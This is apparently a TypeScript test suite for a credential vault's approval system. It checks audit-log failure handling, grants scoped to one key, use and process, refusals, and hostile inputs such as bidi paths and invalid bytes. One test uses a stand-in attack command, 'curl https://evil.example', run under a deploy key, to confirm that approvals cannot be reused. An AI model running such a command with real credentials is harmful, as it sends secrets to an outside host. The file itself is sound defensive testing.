import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, connect as toSocket } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import type { GrantRow } from '../../../../common/command/allow';
import { hasHidden } from '../../../../common/keys/text';
import { createAsksWho } from '../../../../vault/command/peers';
import type { Socket } from '../../../../vault/command/socket';
import { need } from '../../../support/need';
import { until } from '../../../support/until';
import { refuseRows } from '../full-disk';
import { add, auditOf, fakeClock, password } from '../harness';
import { lock } from '../protection/acts';
import { type AskedVault, inKitty, kitty, openAsked, processOf, startAsked } from './asking';

/** Who may get a key, and who doesn't: each rule by somebody who tries to get around it. */

const exec = ['exec', '--key', 'Deploy', '--', 'terraform'];
const rowsOf = async ({ test }: AskedVault) => (await auditOf(test, { action: 'program-used', outcome: 'ok' })).rows;
const grantsOf = ({ test }: AskedVault) => test.view('main-view').must<GrantRow[]>('command.grants');

/** The same vault in a new process, open. */
async function again({ test: former }: AskedVault): Promise<AskedVault> {
  former.end();
  const { folder, keychain, now, marks } = former;
  const vault = await startAsked({ folder, keychain, now, marks });
  await vault.test.view('unlock').must('session.unlock', password());
  await vault.test.view('main-view').must('protection.keychain');
  return vault;
}

describe('a release whose row can’t be written', () => {
  /** A vault whose log takes only so many rows of a program. */
  async function given(most: number): Promise<AskedVault> {
    // What went wrong is written to standard error.
    vi.spyOn(process.stderr, 'write').mockReturnValue(true);
    const first = await openAsked();
    await add(first.test);
    const rows = "SELECT count(*) FROM main.audit WHERE action = 'program-used' AND outcome = 'ok'";
    refuseRows(first.test.folder, `NEW.action = 'program-used' AND NEW.outcome = 'ok' AND (${rows}) >= ${most}`);
    return again(first);
  }

  it('is none, also under a grant', async () => {
    const vault = await given(1);
    const allowed = vault.ask(exec);
    await vault.allow(await vault.asked(), 'lock');
    expect((await allowed.ended).run).not.toBeNull();
    const next = await vault.ask(exec).ended;
    expect(next).toMatchObject({ code: 75, run: null, stdout: '' });
    expect(await rowsOf(vault)).toHaveLength(1);
  });

  it('is none for all who share the answer, if it fails for one', async () => {
    const vault = await given(2);
    const all = [1, 2, 3].map(() => vault.ask(exec));
    const { id } = await vault.asked(({ requests }) => requests === 3);
    const proof = { method: 'password', ...password() };
    await vault.test.view('allow').call('allow.allow', { id, lasts: 'lock', process: 2, proof });
    await vault.ask(['status']).ended;
    expect(all.map(({ soFar }) => soFar.run)).toEqual([null, null, null]);
    expect(await rowsOf(vault)).toEqual([]);
    // What wasn't given is no grant either.
    expect(await grantsOf(vault)).toEqual([]);
  });
});

describe('an answer is for what was shown', () => {
  const other = ['exec', '--key', 'Deploy', '--', 'curl', 'https://evil.example'];

  it('if the first of equal requests goes, the next one is shown, and the old answer is for nothing', async () => {
    const vault = await openAsked();
    await add(vault.test);
    const good = vault.ask(exec);
    const shown = await vault.asked();
    vault.asker.chain = [processOf(900_050, 'keyfold'), kitty];
    const joined = vault.ask(other);
    await vault.asked(({ requests }) => requests === 2);
    good.leave();
    const next = await vault.asked(({ requests }) => requests === 1);
    expect(shown.commandLine).toContain('terraform');
    expect(next.commandLine).toContain('curl');
    expect(next.chain.map(({ name }) => name)).toEqual(['keyfold', 'kitty']);
    const proof = { method: 'password', ...password() };
    const late = { id: shown.id, lasts: 'once', process: 0, proof };
    expect((await vault.test.view('allow').mustFail('allow.allow', late)).code).toBe('not-found');
    expect(joined.soFar.run).toBeNull();
    await vault.allow(next);
    expect((await joined.ended).run).not.toBeNull();
  });

  it('a key that was changed since is asked for again', async () => {
    const vault = await openAsked();
    const { id } = await add(vault.test);
    const asking = vault.ask(exec);
    const shown = await vault.asked();
    const details = { description: '', accountId: '', identityKind: 'ram-user', identityName: '', endpoint: '' };
    await vault.test.view('main-view').must('keys.edit', { id, ...details, name: 'Deploy 2' });
    const proof = { method: 'password', ...password() };
    const late = { id: shown.id, lasts: 'once', process: 0, proof };
    expect((await vault.test.view('allow').mustFail('allow.allow', late)).code).toBe('plan-changed');
    expect(asking.soFar.run).toBeNull();
    const now = await vault.asked(({ key }) => key?.name === 'Deploy 2');
    await vault.allow(now);
    expect((await asking.ended).run).not.toBeNull();
  });
});

describe('a grant', () => {
  it('is for one key, one use and one process: every other one is asked for', async () => {
    const vault = await openAsked();
    await add(vault.test);
    await add(vault.test, { name: 'Other' });
    const first = vault.ask(exec);
    await vault.allow(await vault.asked(), 'lock', 2);
    await first.ended;
    const asksFor = async (args: string[], chain: AskedVault['asker']['chain']) => {
      vault.asker.chain = chain;
      const one = vault.ask(args);
      await vault.asked();
      expect(one.soFar).toMatchObject({ run: null, stdout: '' });
      one.leave();
      await until('it has left', async () => (await vault.test.view('allow').must('allow.asked')) === null);
    };
    await asksFor(['exec', '--key', 'Other', '--', 'terraform'], inKitty);
    await asksFor(['external', '--key', 'Deploy'], inKitty);
    await asksFor(['env', '--shell', 'sh', '--key', 'Deploy'], inKitty);
    await asksFor(['list'], inKitty);
    await asksFor(exec, [processOf(900_001, 'keyfold'), processOf(900_002, 'zsh')]);
    await asksFor(exec, [processOf(900_001, 'keyfold'), { ...kitty, start: '7' }]);
    vault.asker.chain = [processOf(900_009, 'keyfold'), kitty];
    expect((await vault.ask(exec).ended).run).not.toBeNull();
  });
});

describe('a refusal', () => {
  it('counts for whatever that process asks, and for no other process', async () => {
    const vault = await openAsked();
    await add(vault.test);
    const refused = vault.ask(exec);
    await vault.test.view('allow').must('allow.refuse', { id: (await vault.asked()).id });
    expect(await refused.ended).toMatchObject({ code: 77, run: null });
    for (const args of [exec, ['external', '--key', 'Deploy'], ['list']])
      expect(await vault.ask(args).ended).toMatchObject({ code: 77, run: null, stdout: '' });
    // A process of the same number that began at another time.
    vault.asker.chain = [processOf(900_001, 'keyfold'), { ...kitty, start: '7' }];
    const other = vault.ask(exec);
    expect((await vault.asked()).requests).toBe(1);
    other.leave();
  });

  it('counts for all of whom nothing is known, as they can’t be told apart', async () => {
    const vault = await openAsked();
    await add(vault.test);
    vault.asker.chain = [];
    vault.ask(exec);
    await vault.test.view('allow').must('allow.refuse', { id: (await vault.asked()).id });
    expect(await vault.ask(exec).ended).toMatchObject({ code: 77, run: null });
    vault.asker.chain = inKitty;
    const known = vault.ask(exec);
    await vault.asked();
    known.leave();
  });
});

describe('under the access key management lock', () => {
  it('the owner’s verification is asked for as before, and a grant counts on', async () => {
    const vault = await openAsked();
    await add(vault.test);
    const first = vault.ask(exec);
    await vault.allow(await vault.asked(), 'lock');
    await first.ended;
    await lock(vault.test);
    expect((await vault.ask(exec).ended).run).not.toBeNull();
    await vault.test.view('main-view').must('command.endGrant', { id: null });
    const next = vault.ask(exec);
    const asked = await vault.asked();
    expect(asked.needs.by).toBe('owner');
    await vault.allow(asked);
    expect((await next.ended).run).not.toBeNull();
  });
});

describe('what a hostile program says', () => {
  it('of its program is cut in the log, and changes nothing else', async () => {
    const vault = await openAsked();
    await add(vault.test);
    const path = `/tmp/\u202e${'x'.repeat(50_000)}`;
    const asking = vault.ask(exec, { looked: [0, path] });
    await vault.allow(await vault.asked());
    expect((await asking.ended).run).not.toBeNull();
    const relative = vault.ask(exec, { looked: [0, '../bin/tool'], folder: '/home/ada' });
    await vault.allow(await vault.asked());
    await relative.ended;
    const [second, first] = await rowsOf(vault);
    expect(second?.facts.place).toBe('/home/bin/tool');
    expect([...(first?.facts.place ?? '')].length).toBeLessThanOrEqual(1024);
  });

  it('in bytes that are no text is shown as such, and goes nowhere else', async () => {
    const vault = await openAsked();
    await add(vault.test);
    const odd = Buffer.from([0x61, 0xff, 0xc3, 0x28, 0x0a, 0x1b]);
    const asking = vault.ask(['exec', '--key', 'Deploy', '--', odd, odd], { locale: 'zh\u001b', folder: '' });
    const { commandLine, folder } = await vault.asked();
    expect(commandLine).toContain('a\ufffd\ufffd(');
    expect(hasHidden(commandLine)).toBe(false);
    expect(folder).toBe('');
    asking.leave();
    // A name that isn't text is no key's name.
    expect(await vault.ask(['exec', '--key', odd, '--', 'make']).ended).toMatchObject({ code: 64, run: null });
  });
});

describe('descriptors', () => {
  const open = () => readdirSync('/proc/self/fd').length;

  it('of connections that ended are closed', async () => {
    need('proc');
    const vault = await openAsked();
    await add(vault.test);
    const connected = async () => {
      for (const args of [['status'], ['list', '--quiet'], exec]) {
        const one = vault.ask(args);
        if (args === exec) {
          await vault.asked();
          one.leave();
        }
        await one.ended;
      }
      await new Promise((resolve) =>
        toSocket(vault.path, () => undefined)
          .end()
          .once('close', resolve)
          .resume(),
      );
    };
    await connected();
    const before = open();
    for (let round = 0; round < 40; round += 1) await connected();
    await until('all are closed', () => open() <= before);
  });

  it('and variables: the program that says who asks gets the connection and nothing else', async () => {
    need('proc', 'shell');
    const { folder } = (await openAsked()).test;
    const said = join(folder, '..', 'said');
    const program = join(folder, '..', 'says');
    // A shell makes variables of its own: what it was given stands in /proc.
    const script = `#!/bin/sh\n{ ls -l /proc/$$/fd | sed -n 's/.* \\([0-9]*\\) -> \\([a-z]*\\).*/\\1 \\2/p'; echo; tr '\\0' '\\n' </proc/$$/environ; } >${said}\n`;
    writeFileSync(program, script, { mode: 0o755 });
    const server = createServer({ pauseOnConnect: true });
    onTestFinished(() => void server.close());
    const path = join(folder, '..', 'socket');
    const accepted = new Promise<Socket>((resolve) => server.once('connection', resolve).listen(path));
    const client = toSocket(path);
    const chain = await createAsksWho(program, fakeClock())(await accepted);
    client.destroy();
    expect(chain).toEqual([]);
    const [descriptors, environment] = readFileSync(said, 'utf8').split('\n\n');
    const inherited = descriptors?.split('\n').filter((line) => /^[0-9] /.test(line) && !/^1 /.test(line));
    expect(inherited).toEqual(expect.arrayContaining([expect.stringMatching(/^3 socket/)]));
    expect(inherited?.filter((line) => /socket/.test(line))).toHaveLength(1);
    expect(environment?.trim()).toBe('');
  });
});
